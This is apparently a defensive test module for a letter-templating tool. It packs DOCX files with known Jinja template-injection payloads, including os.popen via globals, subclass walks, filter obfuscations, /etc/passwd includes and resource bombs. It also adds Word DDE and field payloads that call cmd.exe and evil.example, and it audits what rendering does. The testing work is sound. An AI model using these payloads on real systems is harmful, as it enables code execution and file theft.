"""Known ways to make a template run code, read a file or reach the network.

`python -m tests.robust.attacks foiwriter|docxtpl FOLDER` tries each of them in this process and
prints, as JSON, what the process did beyond reading templates. An audit hook sees every program
started, every file opened for writing and every connection, whatever way it was reached.
"""

from __future__ import annotations

import contextlib
import io
import json
import random
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import psutil
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

if TYPE_CHECKING:
    from collections.abc import Callable

CANARY = "canary-of-an-attack"
RUN = f"touch {CANARY}"
_POPEN = f"popen('{RUN}').read()"
_SYSTEM = f"system('{RUN}')"
_WRITE = f"open('{CANARY}','w').write('x')"

EXPRESSIONS = (
    f"cycler.__init__.__globals__.os.{_POPEN}",
    f"joiner.__init__.__globals__.os.{_POPEN}",
    f"namespace.__init__.__globals__.os.{_POPEN}",
    f"lipsum.__globals__.os.{_POPEN}",
    f"lipsum.__globals__['os'].{_SYSTEM}",
    f"lipsum|attr('__globals__')|attr('get')('os')|attr('system')('{RUN}')",
    f"self.__init__.__globals__.__builtins__.__import__('os').{_POPEN}",
    f"self._TemplateReference__context.cycler.__init__.__globals__.os.{_POPEN}",
    f"self._TemplateReference__context.lipsum.__globals__.os.{_SYSTEM}",
    f"self.__class__.__mro__[1].__subclasses__()|string|{_WRITE}",
    f"''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['{_SYSTEM}']",
    "''.__class__.__base__.__subclasses__()",
    "[].__class__.__base__.__subclasses__()",
    "{}.__class__.__mro__[1].__subclasses__()",
    "().__class__.__bases__[0].__subclasses__()[59].__init__.func_globals",
    f"name.__class__.__init__.__globals__.__builtins__.{_WRITE}",
    f"name.__init__.__globals__['__builtins__']['exec'](\"{_WRITE}\")",
    f"name.__class__.__mro__[1].__subclasses__()[0]('{CANARY}')",
    f"client.__class__.__init__.__globals__.os.{_POPEN}",
    "client.name.format.__globals__",
    "'{0.__class__.__init__.__globals__}'.format(client)",
    "'{0.__class__}'.format_map({'0': client})",
    "'%s'|format(client.__class__)",
    f"request.application.__globals__.__builtins__.__import__('os').{_POPEN}",
    "config.__class__.__init__.__globals__['os'].environ",
    "config.items()",
    f"url_for.__globals__.os.{_SYSTEM}",
    f"get_flashed_messages.__globals__.os.{_SYSTEM}",
    f"g.pop.__globals__.__builtins__.{_WRITE}",
    f"caller.__globals__.os.{_SYSTEM}",
    f"loop.__class__.__init__.__globals__.os.{_SYSTEM}",
    "loop.cycle.__globals__",
    f"dict.__base__.__subclasses__()[84].load_module('os').{_SYSTEM}",
    f"range.__class__.__base__.__subclasses__()[104].load_module('os').{_SYSTEM}",
    f"undefined_name.__init__.__globals__.os.{_SYSTEM}",
    f"undefined_name.__class__.__init__.__globals__.__builtins__.{_WRITE}",
    "client|attr('__class__')",
    "client|attr('\\x5f\\x5fclass\\x5f\\x5f')",
    "client|attr('_'*2~'class'~'_'*2)",
    "client['__class__']",
    "client['\\x5f\\x5fclass\\x5f\\x5f']",
    "client[request.args.x]",
    "(client|attr('__init__')).__globals__",
    "(client|map(attribute='__class__')|list)[0]",
    "[client]|map(attribute='__class__.__mro__')|list",
    "[client]|selectattr('__class__')|list",
    "[client]|groupby('__class__')",
    "[client]|sum(attribute='__class__')",
    "[client]|sort(attribute='__class__')",
    "[client]|unique(attribute='__init__')|list",
    "client|tojson|safe",
    "client|pprint",
    f"('x' if true else y).__class__.__init__.__globals__.os.{_SYSTEM}",
    f"(true and cycler).__init__.__globals__.os.{_SYSTEM}",
    f"(not false or cycler).__init__.__globals__.os.{_SYSTEM}",
    f"cycler|attr('__init__')|attr('__globals__')|attr('get')('os')|attr('system')('{RUN}')",
    f"cycler['__init__']['__globals__']['os']['system']('{RUN}')",
    "name.join.__self__.__class__",
    "name.encode().decode.__class__",
    "name.upper().__class__",
    "name.split.__doc__",
    "items.append(cycler)",
    "items.__class__.__mro__",
    "items.clear()",
    "client.update({'x': 1})",
    "client.pop('name')",
    "client.get.__self__.__class__",
    "client.values.__self__",
    "1.0.__class__.__base__",
    "7*7",
    "2**99999999",
    "'a'*999999999",
    "range(999999999)|list",
    "'x'|center(999999999)",
    "'x'|indent(999999999)",
    "lipsum(n=99999)",
    f"__builtins__.{_WRITE}",
    f"__import__('os').{_SYSTEM}",
    f'exec("{_WRITE}")',
    f'eval("{_WRITE}")',
    f"open('{CANARY}','w')",
    f"os.{_SYSTEM}",
    f"sys.modules.os.{_SYSTEM}",
    f"subprocess.run('{RUN}', shell=True)",
    "_a",
    "client._data",
    "client.__dict__",
)
"""Put into `{{ }}`."""

BLOCKS = (
    f"{{% set x = cycler.__init__.__globals__.os.{_POPEN} %}}",
    f"{{% if cycler.__init__.__globals__.os.{_POPEN} %}}x{{% endif %}}",
    f"{{% for x in cycler.__init__.__globals__.os.popen('{RUN}') %}}{{{{ x }}}}{{% endfor %}}",
    f"{{% with x = lipsum.__globals__.os.{_POPEN} %}}{{{{ x }}}}{{% endwith %}}",
    f"{{% macro m() %}}x{{% endmacro %}}{{{{ m.__globals__.os.{_SYSTEM} }}}}",
    f"{{% call(x) lipsum.__globals__.os.{_POPEN} %}}{{% endcall %}}",
    f"{{% filter attr('__class__') %}}x{{% endfilter %}}",  # noqa: F541 - one of a family
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% import '/etc/passwd' as x %}",
    "{% from '/etc/passwd' import x %}",
    "{% block x %}{{ super.__globals__ }}{% endblock %}",
    "{% autoescape false %}{{ name }}{% endautoescape %}",
    "{% do cycler.__init__ %}",
    "{% for x in items recursive %}{{ loop.__globals__ }}{% endfor %}",
    "{% for x in items if x.__class__ %}{{ x }}{% endfor %}",
    "{% raw %}{{ name }}{% endraw %}",
    "{%p import os %}",
    f"{{{{r cycler.__init__.__globals__.os.{_POPEN} }}}}",
    f"{{{{p cycler.__init__.__globals__.os.{_POPEN} }}}}",
    f"{{{{ na{{{{ cycler.__init__.__globals__.os.{_POPEN} }}}}me }}}}",
    f"{{# {{{{ x }}}} #}}{{{{ cycler.__init__.__globals__.os.{_POPEN} }}}}",
    f"{{% colspan cycler.__init__.__globals__.os.{_POPEN} %}}",
    f"{{% cellbg cycler.__init__.__globals__.os.{_POPEN} %}}",
)
"""Put into a paragraph as they are."""

FIELDS = (
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'DDE cmd "/c calc"',
    "INCLUDETEXT file:///etc/passwd",
    "INCLUDEPICTURE http://evil.example/x.png",
    "LINK Excel.Sheet.8 http://evil.example/x.xls",
    "DATABASE \\d http://evil.example",
    "IMPORT http://evil.example/x",
    "MACROBUTTON AutoOpen x",
)
"""Put into a field: Word would obey them when it opens the letter."""

VALUES: dict[str, Any] = {
    "name": "Ann",
    "client": {"name": "Ann"},
    "items": ("a", "b"),
}
_WORDS = (
    "name",
    "client",
    "items",
    "cycler",
    "lipsum",
    "self",
    "loop",
    "x",
    "os",
    "true",
    "none",
    "range",
    "dict",
    ".",
    ".",
    ".",
    "(",
    ")",
    "[",
    "]",
    "|",
    "+",
    "~",
    "==",
    ",",
    ":",
    "'",
    '"',
    "*",
    "__class__",
    "__init__",
    "__globals__",
    "_",
    "1",
    "0",
    "attr",
    "join",
    "first",
    "upper",
    "map",
    "if",
    "else",
    "and",
    "or",
    "not",
    "in",
    "is",
    "format",
    "popen",
    "system",
)


def documents() -> list[tuple[str, bytes]]:
    """Every known attack as a DOCX, in a body, a header, a table or the properties."""
    places = ("body", "header", "footer", "table", "property")
    found = []
    for number, expression in enumerate(EXPRESSIONS):
        text = f"{{{{ {expression} }}}}"
        found.append((text, document(text, places[number % len(places)])))
    found += [(text, document(text, "body")) for text in BLOCKS]
    found += [(text, document(text, "field")) for text in FIELDS]
    return found


def document(text: str, place: str) -> bytes:
    """A DOCX with an attack in one place."""
    draft = Document()
    if place == "body":
        draft.add_paragraph(text)
    elif place == "table":
        draft.add_table(1, 1).cell(0, 0).text = text
    elif place == "property":
        draft.core_properties.title = text[:255]
        draft.add_paragraph(text)
    elif place == "field":
        run = draft.add_paragraph("x").add_run()
        for kind in ("begin", "", "end"):
            element = OxmlElement("w:fldChar" if kind else "w:instrText")
            if kind:
                element.set(qn("w:fldCharType"), kind)
            else:
                element.text = text
            run._r.append(element)
    else:
        part = draft.sections[0].header if place == "header" else draft.sections[0].footer
        part.paragraphs[0].text = text
    stream = io.BytesIO()
    draft.save(stream)
    return stream.getvalue()


def slim_document() -> Callable[[str], bytes]:
    """Makes DOCX files that differ in one text, without python-docx's weight."""
    from xml.sax.saxutils import escape

    kept = ("[Content_Types].xml", "_rels/.rels", "word/document.xml")
    with zipfile.ZipFile(io.BytesIO(document("PLACE", "body"))) as archive:
        parts = {name: archive.read(name) for name in kept}

    def made(text: str) -> bytes:
        stream = io.BytesIO()
        body = parts[kept[2]].replace(b"PLACE", escape(text).encode())
        with zipfile.ZipFile(stream, "w") as archive:
            for name in kept:
                archive.writestr(name, body if name == kept[2] else parts[name])
        return stream.getvalue()

    return made


def random_tag(pick: random.Random) -> str:
    """A tag of random words, most of them nonsense, some of them dangerous."""
    inner = " ".join(pick.choice(_WORDS) for _ in range(pick.randint(1, 9)))
    inner = inner.replace(" . ", ".")
    kind = pick.randint(0, 3)
    return f"{{{{ {inner} }}}}" if kind else f"{{% if {inner} %}}x{{% endif %}}"


def _by_foiwriter(docx: bytes) -> str:
    from foiwriter.letters.faults import TemplateFault
    from foiwriter.letters.rendering import render
    from foiwriter.letters.templates import Template

    try:
        render(Template.of(docx, "attack.docx"), VALUES)
    except TemplateFault as fault:
        return fault.id
    return "rendered"


def _by_docxtpl(docx: bytes) -> str:
    from docxtpl import DocxTemplate

    try:
        template = DocxTemplate(io.BytesIO(docx))
        template.render(dict(VALUES))
        template.save(io.BytesIO())
    except Exception as problem:  # noqa: BLE001 - whatever the attack ends in
        return type(problem).__name__
    return "rendered"


WATCHED = {
    "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.forkpty", "os.spawn", "os.startfile",
    "subprocess.Popen", "pty.spawn", "socket.connect", "socket.getaddrinfo", "ctypes.dlopen",
    "os.remove", "os.rename", "os.mkdir", "os.chmod", "shutil.rmtree", "exec-outside",
}  # fmt: skip


def main() -> None:
    """Try the attacks one after the other and print what was seen."""
    who, folder, fuzz = sys.argv[1], Path(sys.argv[2]), int(sys.argv[3])
    attempt = _by_foiwriter if who == "foiwriter" else _by_docxtpl
    known = documents()
    with contextlib.suppress(Exception):
        attempt(document("{{ name }}", "body"))  # imports what it needs before the hook listens
    seen: list[str] = []

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        if event in WATCHED:
            seen.append(f"{event} {arguments}")
        elif event == "open" and isinstance(arguments[1], str) and arguments[1][:1] in "wax":
            seen.append(f"write {arguments[0]}")
        elif event == "open" and "/etc/passwd" in str(arguments[0]):
            seen.append("read /etc/passwd")

    import os

    os.chdir(folder)
    # Bombs are for the limits that come later; docxtpl would never end on them.
    bombs = ("99999",)
    sys.addaudithook(watch)
    outcomes = {}
    for text, docx in known:
        if who == "docxtpl" and any(bomb in text for bomb in bombs):
            continue
        outcomes[text] = attempt(docx)
    pick = random.Random(20140925)
    blank = slim_document()
    for _ in range(fuzz):
        attempt(blank(random_tag(pick)))
    children = [child.name() for child in psutil.Process().children(recursive=True)]
    print(
        json.dumps(
            {
                "outcomes": outcomes,
                "seen": seen,
                "children": children,
                "canary": (folder / CANARY).exists(),
            }
        )
    )


if __name__ == "__main__":
    main()
